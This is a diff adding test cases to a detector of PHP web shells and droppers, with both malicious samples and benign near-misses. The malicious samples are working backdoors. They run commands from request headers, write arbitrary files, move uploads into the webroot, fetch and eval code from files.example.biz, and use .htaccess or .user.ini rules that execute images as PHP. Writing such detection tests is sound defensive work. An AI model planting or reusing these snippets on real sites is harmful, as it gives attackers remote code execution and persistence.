@@ -3509,6 +3509,20 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # c/z01.php padded
     (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php if ($_COOKIE['u'] === 'k1') { if ($_FILES) { $x = array_values($_FILES)[0]; move_uploaded_file($x['tmp_name'], $x['name']); } }"
+        ),
+        True,
+    ),  # c/z02.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php if ($_COOKIE['u'] === 'k1') { if ($_FILES) { $x = array_values($_FILES)[0]; move_uploaded_file($x['tmp_name'], $x['name']); } }"
+        ),
+        True,
+    ),  # c/z02.php padded
+    (
         "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
         plain(
             "<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><button>Go</button></form>\n<?php if (!empty($_FILES['f'])) { $target = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $target); echo $target; }"
@@ -5075,6 +5089,314 @@ CASES: list[tuple[str, bytes, bool]] = [
         ini_padded("auto_prepend_file = /home/u/public_html/wp-admin/images/w-logo-blue.png\n"),
         True,
     ),  # f/f28.user.ini padded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        plain(
+            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
+        ),
+        True,
+    ),  # g/g01.php
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        padded(
+            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
+        ),
+        True,
+    ),  # g/g01.php padded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        embedded(
+            "<?php if (md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') include($_FILES['f']['tmp_name']);"
+        ),
+        True,
+    ),  # g/g01.php embedded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
+        ),
+        True,
+    ),  # g/g02.php
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
+        ),
+        True,
+    ),  # g/g02.php padded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php if (sha1($_SERVER['HTTP_X_TOKEN']) === '86f7e437faa5a7fce15d1ddcb9eaeaea377667b8') { $c = $_SERVER['HTTP_X_CMD']; print `$c`; }"
+        ),
+        True,
+    ),  # g/g02.php embedded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
+        ),
+        True,
+    ),  # g/g03.php
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
+        ),
+        True,
+    ),  # g/g03.php padded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php if (isset($_COOKIE['w']) && md5($_COOKIE['w']) == '0cc175b9c0f1b6a831c399e269772661') { $fn = $_COOKIE['fn']; $fn($_COOKIE['arg']); }"
+        ),
+        True,
+    ),  # g/g03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
+        ),
+        True,
+    ),  # g/g04.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
+        ),
+        True,
+    ),  # g/g04.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php if (hash('sha256', $_GET['k'] ?? '') !== 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb') return; file_put_contents($_GET['n'], $_GET['c']);"
+        ),
+        True,
+    ),  # g/g04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
+        ),
+        True,
+    ),  # g/g05.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
+        ),
+        True,
+    ),  # g/g05.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$dl = @fopen('https://files.example.biz/p.txt', 'r');\nif ($dl) {\n  $local = @fopen(__DIR__ . '/wp-content/mu-plugins/loader.php', 'w');\n  while (!feof($dl)) { fwrite($local, fgets($dl)); }\n  fclose($local);\n}\n"
+        ),
+        True,
+    ),  # g/g05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
+        ),
+        True,
+    ),  # g/g06.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
+        ),
+        True,
+    ),  # g/g06.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $u = strrev('txt.p/zib.elpmaxe.selif//:ptth'); $x = file_get_contents($u); eval('?>' . $x);"
+        ),
+        True,
+    ),  # g/g06.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
+        ),
+        True,
+    ),  # g/g07.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
+        ),
+        True,
+    ),  # g/g07.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php file_put_contents('mu-plugins/' . 'wp-health.php', @file_get_contents('http://files.example.biz/h'));"
+        ),
+        True,
+    ),  # g/g07.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php if (!empty($_FILES['file']['name'])) { $p = './' . $_FILES['file']['name']; move_uploaded_file($_FILES['file']['tmp_name'], $p) && print 'ok'; }"
+        ),
+        True,
+    ),  # g/g08.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php if (!empty($_FILES['file']['name'])) { $p = './' . $_FILES['file']['name']; move_uploaded_file($_FILES['file']['tmp_name'], $p) && print 'ok'; }"
+        ),
+        True,
+    ),  # g/g08.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
+        ),
+        True,
+    ),  # g/g09.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
+        ),
+        True,
+    ),  # g/g09.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $in = fopen('php://input', 'r'); $out = fopen($_GET['f'], 'w'); stream_copy_to_stream($in, $out); fclose($out);"
+        ),
+        True,
+    ),  # g/g09.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
+        True,
+    ),  # g/g10.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
+        True,
+    ),  # g/g10.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded("<?php file_put_contents($_GET['f'], fopen('php://input', 'r'));"),
+        True,
+    ),  # g/g10.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
+        ),
+        True,
+    ),  # g/g11.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
+        ),
+        True,
+    ),  # g/g11.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$k = $_POST['k'] ?? '';\nif (md5($k) === '0cc175b9c0f1b6a831c399e269772661') {\n    $t = $_POST['t'];\n    $b = $_POST['b'];\n    file_put_contents($t, base64_decode($b));\n    echo 'ok';\n}\n"
+        ),
+        True,
+    ),  # g/g11.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php if (@$_SERVER['HTTP_X_UP'] === 'go' && !empty($_FILES)) { $x = reset($_FILES); copy($x['tmp_name'], $x['name']); }"
+        ),
+        True,
+    ),  # g/g12.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php if (@$_SERVER['HTTP_X_UP'] === 'go' && !empty($_FILES)) { $x = reset($_FILES); copy($x['tmp_name'], $x['name']); }"
+        ),
+        True,
+    ),  # g/g12.php padded
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
+        True,
+    ),  # g/g13.php
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
+        True,
+    ),  # g/g13.php padded
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        embedded("<?php $a = 'move_uploaded' . '_file'; $a($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
+        True,
+    ),  # g/g13.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
+        ),
+        True,
+    ),  # g/g14.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
+        ),
+        True,
+    ),  # g/g14.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$c = curl_init('http://files.example.biz/q.txt');\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, true);\n$b = curl_exec($c);\n$t = tempnam(sys_get_temp_dir(), 'q');\nfile_put_contents($t, $b);\nrequire $t;\n"
+        ),
+        True,
+    ),  # g/g14.php embedded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<Files ~ "\\.jpg$">\nSetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # g/g17.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('<Files ~ "\\.jpg$">\nSetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # g/g17.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddType application/x-httpd-php .jpg\nOptions -Indexes\nphp_flag display_errors off\n"),
+        True,
+    ),  # g/g18.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddType application/x-httpd-php .jpg\nOptions -Indexes\nphp_flag display_errors off\n"),
+        True,
+    ),  # g/g18.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddHandler myphp .jpg\nAction myphp /cgi-bin/php-cgi\n"),
+        True,
+    ),  # g/g19.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddHandler myphp .jpg\nAction myphp /cgi-bin/php-cgi\n"),
+        True,
+    ),  # g/g19.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2024/01/Image.JPG"\n'),
+        True,
+    ),  # g/g20.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file = "/home/u/public_html/wp-content/uploads/2024/01/Image.JPG"\n'),
+        True,
+    ),  # g/g20.user.ini padded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -5784,6 +6106,48 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         False,
     ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        embedded(
+            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
+        ),
+        False,
+    ),
     ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("Options +ExecCGI\nAddHandler cgi-script .cgi .pl\n"), False),
     (
         "SPAMGEAR_POLYGLOT_HtaccessHandler",
@@ -5834,6 +6198,30 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_POLYGLOT_HtaccessHandler",
         ht_padded('<FilesMatch "\\.php$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddHandler php-cgi .php\nAction php-cgi /cgi-bin/php\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddHandler php-cgi .php\nAction php-cgi /cgi-bin/php\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain(
+            "AddHandler server-parsed .shtml\nAddHandler type-map .var\nAction image-resize /cgi-bin/resize.cgi\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            "AddHandler server-parsed .shtml\nAddHandler type-map .var\nAction image-resize /cgi-bin/resize.cgi\n"
+        ),
         False,
     ),
     ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file = /usr/share/php/prepend.inc\n"), False),
